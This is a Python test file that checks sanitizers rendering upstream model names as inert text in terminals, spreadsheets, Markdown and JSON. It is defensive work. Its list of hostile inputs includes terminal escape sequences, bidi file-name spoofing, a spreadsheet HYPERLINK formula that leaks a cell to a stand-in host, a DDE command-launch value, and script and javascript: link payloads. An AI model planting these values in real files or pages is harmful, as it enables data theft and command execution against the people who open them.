"""What upstream names a model is text wherever it is shown: nothing obeys it."""

from __future__ import annotations

import json

import pytest
from markdown_it import MarkdownIt

from warehouse.text import json_printable, markdown, printable, spreadsheet

HOSTILE = [
    "\x1b]0;owned\x07\x1b[2Jgpt-9",
    "evil\u202egnp.exe\u2066",
    "zero\u200bwidth\ufeff",
    "\x9b31m",
    '=HYPERLINK("http://x.example/?"&A1)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "＝1+1",
    "'quoted",
    "![x](http://x.example/p.png)",
    "[click](javascript:alert(1))",
    "<script>alert(1)</script>",
    "a | b\n# heading\n\n| c |",
    "`code` **bold** ~~gone~~ _lean_ \\| end\\",
    "[1]: http://x.example",
    "12. list",
    "--- rule",
    "+ list",
    "# heading",
    "2025-02 is a month",
    "plain-model_v1.5 (high)",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_that_a_terminal_obeys_is_left(name: str) -> None:
    for text in (printable(name), spreadsheet(name), markdown(name), json_printable(json.dumps(name))):
        assert text.replace("\n", "").isprintable()
    assert json.loads(json_printable(json.dumps(name, ensure_ascii=False))) == name


@pytest.mark.parametrize("name", [name for name in HOSTILE if name.replace("\n", "").isprintable()])
def test_no_cell_is_a_formula_and_each_can_be_read_back(name: str) -> None:
    cell = spreadsheet(name)
    assert cell[0] not in "=+-@＝＋－＠\t\r\n"
    assert cell.removeprefix("'") == name


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_shows_the_letters_and_makes_nothing_of_them(name: str) -> None:
    """Would catch a link, a picture, a tag, a heading or a row more in CHANGES.md and the web UI."""
    shown = " ".join(printable(" ".join(name.splitlines())).split())
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for text in (f"- {markdown(name, starts_line=True)}", f"| h |\n| --- |\n| {markdown(name)} |"):
        tokens = reader.parse(text)
        [inline] = [token for token in tokens if token.type == "inline" and token.content != "h"]
        assert {child.type for child in inline.children or []} <= {"text", "text_special"}
        letters = "".join(child.content for child in inline.children or [])
        assert " ".join(letters.split()) == shown
    assert not {token.tag for token in reader.parse(f"- {markdown(name, starts_line=True)}")} - {
        "ul",
        "li",
        "p",
        "",
    }
